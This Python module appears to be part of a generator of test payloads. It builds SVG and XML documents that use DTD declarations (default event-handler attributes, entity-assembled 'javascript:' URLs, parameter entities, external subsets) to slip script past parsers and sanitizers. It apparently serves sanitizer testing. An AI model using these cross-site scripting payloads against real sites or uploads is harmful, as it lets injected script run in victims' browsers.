"""Payloads: declarations of a document type."""

from .document import FULL, SVG, XHTML, XLINK


def default_event(d):
    event, name, body = d.random.choice(
        [
            ("onload", "svg", ""),
            ("onload", "svg", ""),
            ("onclick", "rect", f"<rect {FULL}/>"),
            ("onbegin", "set", '<set attributeName="x" to="1"/>'),
            ("onmousemove", "g", f"<g><rect {FULL}/></g>"),
            ("onerror", "h:img", '<h:img src="x:"/>'),
            ("onerror", "image", '<image href="data:,"/>'),
        ]
    )
    d.prefix = ""
    if name == "svg" and d.random.random() < 0.3:
        d.prefix = "q:"
        name = "q:svg"
    kind = d.random.choice(["", "#FIXED "])
    written = d.attribute("", d.script()).lstrip(" =\n\t")
    other = d.random.choice(["", "", "id ID #IMPLIED ", "lang NMTOKEN 'a' ", "\n class (a|b) 'a'\n"])
    d.subset.append(f"<!ATTLIST {name} {other}{event} CDATA {kind}{written}>")
    d.add(body)


def default_address(d):
    d.prefix = ""
    form = d.random.choice(["a", "script", "animate", "iframe"])
    address = d.address().replace('"', "'")
    if form == "a":
        d.subset.append(f'<!ATTLIST a {d.random.choice(["href", "xlink:href"])} CDATA "{address}">')
        d.add(f"<a><rect {FULL}/></a>")
    elif form == "script":
        d.subset.append(f'<!ATTLIST script href CDATA #FIXED "{d.data_script()}">')
        d.add("<script/>")
    elif form == "animate":
        d.subset.append(f'<!ATTLIST set attributeName CDATA "href" to CDATA "{address}">')
        d.add(f'<a href="#"><set/><rect {FULL}/></a>')
    else:
        d.subset.append(f'<!ATTLIST iframe xmlns CDATA #FIXED "{XHTML}" src CDATA "{d.data_page()}">')
        d.add(d.foreign("<iframe/>"))


def default_namespace(d):
    """Namespaces given only by the document type."""
    form = d.random.choice(["element", "prefix", "root", "root-prefix"])
    space = d.random.choice([SVG, XHTML])
    kind = d.random.choice(["", "#FIXED "])
    if form == "element":
        d.prefix = "s:"
        d.subset.append(f'<!ATTLIST script xmlns CDATA {kind}"{space}">')
        d.add(f"<script>{d.script('<&')}</script>")
    elif form == "prefix":
        d.prefix = ""
        owner = d.random.choice(["q:script", "svg"])
        d.subset.append(f'<!ATTLIST {owner} xmlns:q CDATA {kind}"{space}">')
        d.add(f"<q:script>{d.script('<&')}</q:script>")
    else:
        d.prefix = "" if form == "root" else "s:"
        d.has_namespace = False
        d.subset.append(f'<!ATTLIST {d.tag("svg")} xmlns{":s" if d.prefix else ""} CDATA {kind}"{SVG}">')
        d.add(d.element("script", [], d.script("<&")))


def entity_namespace(d):
    """Namespaces by entities, as in Illustrator's files."""
    d.subset.append(f'<!ENTITY ns_svg "{SVG}">')
    d.subset.append(
        f'<!ENTITY ns_h "{XHTML}">'
        if d.random.random() < 0.5
        else '<!ENTITY ns_w3 "http://www.w3.org">\n<!ENTITY ns_h "http://www.w3.org/1999/xhtml">'
    )
    d.namespaces = {"xlink": XLINK, "h": d.random.choice(["&ns_h;", XHTML, "http://www.w3.org/1999/&#120;html"])}
    d.add(
        d.random.choice(
            [
                f'<q:script xmlns:q="&ns_svg;">{d.script("<&")}</q:script>',
                f'<q:script xmlns:q="&ns_h;">{d.script("<&")}</q:script>',
                f'<div xmlns="&ns_h;"><script>{d.script("<&")}</script></div>',
                f'<h:img src="x:" {d.attribute("onerror", d.script())}/>',
            ]
        )
    )


def entity_markup(d):
    script = d.script("'<&%\"")
    markup = d.random.choice(
        [
            f"<script xmlns='{SVG}'>{script}</script>",
            f"<h:script>{script}</h:script>",
            f"<svg xmlns='{SVG}' onload='{script}'/>",
            f"<h:img src='x:' onerror='{script}'/>",
        ]
    )
    markup = markup.replace("<", d.random.choice(["<", "<", "&#60;", "&#x3c;", "&#x0000003C;"]))
    name = d.random.choice(["a", "ns_svg", "nbsp", "é", "lt2", "copy", "A"])
    d.subset.append(f'<!ENTITY {name} "{markup}">')
    form = d.random.random()
    if form < 0.25:
        d.subset.append(f'<!ENTITY outer "x &{name}; y">')
        name = "outer"
    elif form < 0.5:
        d.subset.append(f'<!ENTITY {name} "harmless: the first declaration holds">')
    d.add(d.random.choice(["&%s;", "<g>&%s;</g>", "<desc>&%s;</desc>", "<text>a&%s;</text>"]).replace("%s", name))


def entity_value(d):
    words = ["&a;script:", "java&a;", "&a;&b;", "&c;"]
    word = d.random.choice(words)
    declared = {
        "&a;script:": ['<!ENTITY a "java">'],
        "java&a;": ['<!ENTITY a "script:">'],
        "&a;&b;": ['<!ENTITY a "java">', "<!ENTITY b 'script:'>"],
        "&c;": d.random.choice(
            [['<!ENTITY d "&#x6a;avascript">', '<!ENTITY c "&d;&#58;">'], ['<!ENTITY c "javascript&#58;">']]
        ),
    }[word]
    d.subset += declared
    if d.random.random() < 0.3:
        d.subset.append(
            declared[-1].split('"')[0].split("'")[0] + '"https://example.org/">'
        )  # The first declaration takes precedence.
    value = word + d.plain_script() + ";void 0"
    d.add(
        d.random.choice(
            [
                f'<{d.tag("a")} href="{value}">{d.element("rect", [FULL])}</{d.tag("a")}>',
                d.foreign(f'<h:iframe src="{value}"/>'),
                f'<{d.tag("a")} xlink:href="{value}">{d.element("rect", [FULL])}</{d.tag("a")}>',
            ]
        )
    )


def entity_parameter(d):
    d.prefix = ""
    script = d.script("'\"%&<")
    form = d.random.choice(["attlist", "entity", "nested", "value"])
    if form == "attlist":
        d.subset += [f"<!ENTITY % p \"<!ATTLIST svg onload CDATA '{script}'>\">", "%p;"]
    elif form == "entity":
        d.subset += [f"<!ENTITY % p '<!ENTITY a \"&#38;#60;script>{script}&#38;#60;/script>\">'>", "%p;"]
        d.add("&a;")
    elif form == "nested":
        d.subset += ["<!ENTITY % q '&#37;p;'>", f"<!ENTITY % p \"<!ATTLIST svg onload CDATA '{script}'>\">", "%q;"]
    else:
        d.subset += [f"<!ENTITY % p '<!ATTLIST svg onload CDATA \"&#38;#{ord(script[0])};{script[1:]}\">'>", "%p;"]


def entity_named(d):
    """XHTML's public identifiers, which define HTML's named characters."""
    d.external = d.random.choice(
        [
            ' PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x"',
            ' PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"',
            ' PUBLIC "-//W3C//DTD XHTML 1.1//EN" ""',
            ' PUBLIC "-//W3C//DTD MathML 2.0//EN" "x"',
            ' PUBLIC "-//W3C//DTD XHTML 1.1 plus MathML 2.0//EN" "x"',
        ]
    )
    scheme = d.random.choice(
        ["javascript&colon;", "java&Tab;script:", "java&NewLine;script&colon;", "&nbsp;javascript:"]
    )
    if "nbsp" in scheme:
        d.add(d.element("text", [], "&nbsp;&eacute;"), d.element("script", [], d.script("<&")))
    else:
        d.add(f'<{d.tag("a")} href="{scheme}{d.plain_script()}">{d.element("rect", [FULL])}</{d.tag("a")}>')


def external_subset(d):
    d.external = d.random.choice(
        [f' SYSTEM "http://{d.host}/dtd/{d.name}"', f' PUBLIC "x" "http://{d.host}/dtd/{d.name}"']
    )
    if d.random.random() < 0.5:
        d.external = ""
        d.subset += [f'<!ENTITY % p SYSTEM "http://{d.host}/dtd/{d.name}">', "%p;"]
    d.add(d.element("rect", [FULL]))
